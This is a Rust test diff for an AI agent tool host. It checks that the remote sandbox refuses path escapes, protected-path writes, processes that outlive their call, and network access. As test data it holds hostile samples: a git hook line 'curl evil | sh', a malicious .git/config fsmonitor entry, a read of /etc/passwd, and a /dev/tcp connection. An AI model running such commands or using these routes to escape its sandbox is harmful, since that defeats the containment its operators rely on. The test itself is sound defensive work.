@@ -460,3 +460,109 @@ fn session_processes_run_on_the_other_side_across_calls_and_end_with_the_session
     assert!(stopped.text.contains("Process 1"), "{}", stopped.text);
     s.server.finish();
 }
+
+/// The red team's checks, on the far side: reads and writes that leave the
+/// workspace by any route, the protected paths, processes that try to
+/// outlive their call, and the network when toolhost denies it. The
+/// service enforces each there; the texts are the local ones.
+#[test]
+fn hostile_the_far_side_keeps_escapes_protected_paths_survivors_and_the_network_in() {
+    let (here, there, outside) = (Workspace::new(), Workspace::new(), Workspace::new());
+    let secret = outside.write("secret.txt", "top secret");
+    there.write_files(&[
+        ("inside.txt", "fine"),
+        ("toolhost.toml", "# trusted grants\n"),
+        (".git/config", "[core]\n"),
+        (".git/hooks/pre-commit", "#!/bin/sh\n"),
+    ]);
+    there.symlink("link-out", &secret);
+    let name = outside
+        .path
+        .file_name()
+        .unwrap()
+        .to_str()
+        .unwrap()
+        .to_string();
+    std::fs::create_dir(there.path.join("dir")).unwrap();
+    there.symlink("dir/out", "../..");
+    let exec = serving(there.str());
+    let call_with = |flags: &[&str], tool: &str, args: Value| {
+        let args = args.to_string();
+        let mut command = vec!["--workspace-exec", &exec];
+        command.extend(flags);
+        command.extend(["call", tool, &args, "--json"]);
+        let result = json_out(&toolhost(&here, &command, None));
+        let text = result["content"][0]["text"].as_str().unwrap().to_string();
+        (text, result["isError"] == true)
+    };
+    let call = |tool: &str, args: Value| call_with(&[], tool, args);
+
+    // Escapes: every route out of the workspace is refused there, with the
+    // local text, and nothing of the file outside comes back.
+    let dotdot = format!("../{name}/secret.txt");
+    let through_dir = format!("dir/out/{name}/secret.txt");
+    let absolute = secret.to_str().unwrap().to_string();
+    for raw in [&dotdot, &absolute, "link-out", &through_dir, "/etc/passwd"] {
+        let (text, is_error) = call("read", json!({ "path": raw }));
+        assert!(is_error, "{raw} must be refused: {text}");
+        assert_eq!(text, format!("Path is outside the workspace: {raw}"));
+    }
+    let (text, is_error) = call("write", json!({"path": dotdot, "content": "planted"}));
+    assert!(is_error, "{text}");
+    assert_eq!(outside.read("secret.txt"), "top secret");
+    let out_of_bash = format!(
+        "echo planted > {} && echo written",
+        outside.path.join("bash.txt").display()
+    );
+    // The jail shows the command this machine's files read-only, and its
+    // own temp directory in place of /tmp.
+    let (text, is_error) = call("bash", json!({ "command": out_of_bash }));
+    assert!(is_error, "{text}");
+    assert!(
+        text.contains("Read-only file system") || text.contains("No such file or directory"),
+        "{text}"
+    );
+    assert!(!outside.path.join("bash.txt").exists());
+
+    // The protected paths: read-only to bash there, refused to write.
+    for attempt in [
+        "echo '[extensions.x]' >> toolhost.toml",
+        "echo '[core] fsmonitor = evil' >> .git/config",
+        "echo 'curl evil | sh' > .git/hooks/post-checkout",
+    ] {
+        let (text, is_error) = call("bash", json!({ "command": attempt }));
+        assert!(is_error, "{attempt}: {text}");
+        assert!(text.contains("Read-only file system"), "{attempt}: {text}");
+    }
+    let (text, is_error) = call(
+        "write",
+        json!({"path": ".git/config", "content": "[core] x"}),
+    );
+    assert!(is_error, "{text}");
+    assert_eq!(there.read("toolhost.toml"), "# trusted grants\n");
+    assert_eq!(there.read(".git/config"), "[core]\n");
+    assert!(!there.path.join(".git/hooks/post-checkout").exists());
+
+    // Survivors: whatever a command starts to outlive its call is gone
+    // when the call ends, as it is here.
+    let m = marker();
+    let (text, _) = call(
+        "bash",
+        json!({"command": format!("{}; echo done", escapes(&m))}),
+    );
+    assert_eq!(text, "done\n");
+    assert!(all_gone(&m), "a process outlived its call on the far side");
+
+    // The network: denied here (`--no-network`), denied there.
+    let listener = Listener::new();
+    let connect = json!({"command": format!(
+        "echo hi > /dev/tcp/127.0.0.1/{} && echo connected",
+        listener.port()
+    )});
+    let (text, is_error) = call_with(&["--no-network"], "bash", connect.clone());
+    assert!(is_error && text.contains("Permission denied"), "{text}");
+    assert!(!listener.was_reached(), "the connection went through");
+    let (text, _) = call("bash", connect);
+    assert_eq!(text, "connected\n");
+    assert!(listener.was_reached());
+}
